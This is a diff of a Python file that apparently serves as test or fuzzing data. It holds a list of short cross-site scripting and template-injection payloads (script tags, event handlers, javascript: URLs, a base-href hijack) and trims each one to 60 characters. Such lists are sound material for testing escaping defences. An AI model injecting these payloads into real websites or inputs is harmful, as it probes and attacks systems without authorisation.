@@ -1,4 +1,4 @@
-"""Texts that become a script, or markup, wherever they are taken for anything but text."""
+"""Texts that become a script, or markup, wherever they are taken for anything but text; at most 60 characters each."""
 
 PAYLOADS = [
     "<script>alert(1)</script>",
@@ -6,12 +6,12 @@ PAYLOADS = [
     "' autofocus onfocus=alert(1) onmouseover=alert(1) x='",
     "</script><script>alert(1)</script>",
     "javascript:alert(1)",
-    "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x>",
-    "{{7331|add:1}}{{7331+1}}${7331+1}#{7331+1}<%=7331+1%>{%load x%}",
+    "<svg onload=alert(1)><set onbegin=alert(1) attributeName=x>",
+    "{{7331|add:1}}{{7331+1}}${7331+1}<%=7331+1%>{%load x%}",
     "\u2028alert(1)//\u2029",
-    "</title></textarea><iframe srcdoc='<script>parent.alert(1)</script>'>",
+    "</title></textarea><iframe src='javascript:alert(1)'>",
     '"-alert(1)-"\'-alert(1)-\'`-alert(1)-`\\"-alert(1)//',
-    "</form><form action=javascript:alert(1)><base href=//evil.example>",
+    "</form><form action=javascript:alert(1)><base href=//e.no>",
     "＜script＞alert(1)＜/script＞<!--<script>",
 ]
 ALL = " ".join(PAYLOADS)
